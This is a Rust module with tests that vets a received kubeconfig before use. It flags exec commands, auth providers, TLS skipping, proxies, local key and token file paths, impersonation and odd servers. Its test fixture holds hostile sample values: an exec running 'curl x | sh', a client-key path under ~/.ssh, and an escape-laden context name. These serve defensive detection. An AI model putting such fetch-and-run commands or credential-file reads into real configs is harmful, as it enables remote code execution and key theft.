//! Reads a kubeconfig that a server or another person gave, field by field, before anything of it is used.

use std::collections::BTreeSet;

use crate::domain::clean::clean;
use crate::domain::kubeconfig_finding::{Finding, FindingKind, Verdict};
use crate::domain::link::{Link, LinkRefusal};
use crate::kubeconfig::merge::{self, Refusal};
use crate::kubeconfig::yaml::{Node, Value};

/// Fields that hold nothing dangerous.
const HARMLESS: [&str; 13] = [
    "server",
    "certificate-authority-data",
    "tls-server-name",
    "disable-compression",
    "client-certificate-data",
    "client-key-data",
    "token",
    "username",
    "password",
    "cluster",
    "user",
    "namespace",
    "extensions",
];
/// Fields that name a file of this computer.
const PATHS: [&str; 4] = [
    "certificate-authority",
    "client-certificate",
    "client-key",
    "tokenFile",
];
const IMPERSONATION: [&str; 4] = ["as", "as-uid", "as-groups", "as-user-extra"];
/// What may stand beside the three lists.
const TOP: [&str; 5] = [
    "apiVersion",
    "kind",
    "current-context",
    "preferences",
    "extensions",
];

/// What was found in it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Received {
    /// The names of its contexts, cleaned.
    pub contexts: Vec<String>,
    /// What a person should know, in the order of the file.
    pub findings: Vec<Finding>,
}

impl Received {
    /// Whether the file may be kept, when somebody has said yes to the fields at these places. What is refused cannot be
    /// said yes to.
    pub fn may_be_kept(&self, accepted: &BTreeSet<String>) -> bool {
        self.findings.iter().all(|finding| match finding.what.verdict() {
            Verdict::Ask => accepted.contains(&finding.place),
            Verdict::Refuse => false,
        })
    }
}

/// Reads it.
///
/// # Errors
/// When it is no kubeconfig.
pub fn read(text: &str) -> Result<Received, Refusal> {
    merge::check(text)?;
    let root = Node::read(text)?;
    let mut findings = Vec::new();
    for (key, value) in root.entries() {
        let body = match key.name.as_str() {
            "clusters" => "cluster",
            "contexts" => "context",
            "users" => "user",
            name if TOP.contains(&name) => continue,
            name => {
                findings.push(finding(clean(name), FindingKind::Unknown));
                continue;
            }
        };
        for (index, item) in value.items().iter().enumerate() {
            let place = format!("{}[{index}]", key.name);
            for (key, value) in item.entries() {
                if key.name == body {
                    inspect(&format!("{place}.{body}"), value, &mut findings);
                } else if key.name != "name" {
                    findings.push(finding(
                        format!("{place}.{}", clean(&key.name)),
                        FindingKind::Unknown,
                    ));
                }
            }
        }
    }
    let contexts = root.get("contexts").map_or(&[][..], Node::items);
    Ok(Received {
        contexts: contexts
            .iter()
            .filter_map(|item| item.text_of("name"))
            .map(clean)
            .collect(),
        findings,
    })
}

fn finding(place: String, what: FindingKind) -> Finding {
    Finding { place, what }
}

fn inspect(place: &str, body: &Node, findings: &mut Vec<Finding>) {
    for (key, value) in body.entries() {
        if value.value == Value::Nothing {
            continue;
        }
        let said = || value.text().map(clean).unwrap_or_default();
        let what = match key.name.as_str() {
            "exec" => Some(FindingKind::RunsProgram {
                command: command(value),
            }),
            "auth-provider" => Some(FindingKind::AuthProvider {
                name: value.text_of("name").map(clean).unwrap_or_default(),
            }),
            "insecure-skip-tls-verify" => (value.text() != Some("false")).then_some(FindingKind::SkipsTls),
            "proxy-url" => Some(FindingKind::Proxy { address: said() }),
            "server" => odd_server(value.text().unwrap_or_default()),
            name if PATHS.contains(&name) => Some(FindingKind::ReadsFile { path: said() }),
            name if IMPERSONATION.contains(&name) => Some(FindingKind::Impersonates),
            name if HARMLESS.contains(&name) => None,
            _ => Some(FindingKind::Unknown),
        };
        findings.extend(what.map(|what| finding(format!("{place}.{}", clean(&key.name)), what)));
    }
}

fn odd_server(text: &str) -> Option<FindingKind> {
    let address = clean(text);
    match Link::of(text) {
        Link::Opens(_) => None,
        Link::Refused(LinkRefusal::Loopback) => Some(FindingKind::Loopback { address }),
        Link::Asks(_) | Link::Refused(_) => Some(FindingKind::NotHttps { address }),
    }
}

fn command(exec: &Node) -> String {
    let arguments = exec.get("args").map_or(&[][..], Node::items);
    let words = exec
        .text_of("command")
        .into_iter()
        .chain(arguments.iter().filter_map(Node::text));
    clean(&words.collect::<Vec<_>>().join(" "))
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::read;
    use crate::domain::kubeconfig_finding::Verdict;

    #[test]
    fn f71_every_dangerous_field_is_listed_and_none_is_taken_silently() {
        let text = r#"
apiVersion: v1
kind: Config
clusters:
- name: a
  cluster: {server: "https://10.0.0.5:6443", insecure-skip-tls-verify: true, proxy-url: "http://p", certificate-authority: /etc/ca.pem}
- name: b
  cluster: {server: "http://10.0.0.5", insecure-skip-tls-verify: false}
- name: c
  cluster: {server: "https://127.0.0.1:6443", later: 1}
contexts:
- name: "x\e[31m"
  context: {cluster: a, user: u, namespace: n}
users:
- name: u
  user: {exec: {command: sh, args: [-c, "curl x | sh"]}, client-key: /home/me/.ssh/id, tokenFile: t, as: root}
- name: v
  user: {auth-provider: {name: gcp}, token: abc}
- name: w
  user: {client-certificate-data: x, client-key-data: y}
  odd: 1
surprise: 1
"#;
        let received = read(text).unwrap();
        assert_eq!(received.contexts, ["x␛[31m"]);
        let listed: Vec<(&str, Verdict)> = received
            .findings
            .iter()
            .map(|finding| (finding.place.as_str(), finding.what.verdict()))
            .collect();
        assert_eq!(
            listed,
            [
                ("clusters[0].cluster.insecure-skip-tls-verify", Verdict::Ask),
                ("clusters[0].cluster.proxy-url", Verdict::Ask),
                ("clusters[0].cluster.certificate-authority", Verdict::Refuse),
                ("clusters[1].cluster.server", Verdict::Ask),
                ("clusters[2].cluster.server", Verdict::Ask),
                ("clusters[2].cluster.later", Verdict::Ask),
                ("users[0].user.exec", Verdict::Refuse),
                ("users[0].user.client-key", Verdict::Refuse),
                ("users[0].user.tokenFile", Verdict::Refuse),
                ("users[0].user.as", Verdict::Ask),
                ("users[1].user.auth-provider", Verdict::Refuse),
                ("users[2].odd", Verdict::Ask),
                ("surprise", Verdict::Ask),
            ]
        );
        assert!(format!("{received:?}").contains("sh -c curl x | sh"));
        let every: BTreeSet<String> = received
            .findings
            .iter()
            .map(|finding| finding.place.clone())
            .collect();
        assert!(
            !received.may_be_kept(&every),
            "what runs programs cannot be said yes to"
        );
    }

    #[test]
    fn f71_a_plain_file_is_kept_and_a_question_is_answered_field_by_field() {
        let plain =
            "clusters: [{name: a, cluster: {server: 'https://k.example'}}]\nusers: []\ncontexts: []\n";
        assert!(read(plain).unwrap().may_be_kept(&BTreeSet::new()));
        let asks = plain.replace("server:", "insecure-skip-tls-verify: yes, server:");
        let received = read(&asks).unwrap();
        assert!(!received.may_be_kept(&BTreeSet::new()));
        let yes = BTreeSet::from(["clusters[0].cluster.insecure-skip-tls-verify".to_owned()]);
        assert!(received.may_be_kept(&yes));
        assert!(read("just text").is_err() && read("users: {}").is_err());
    }
}
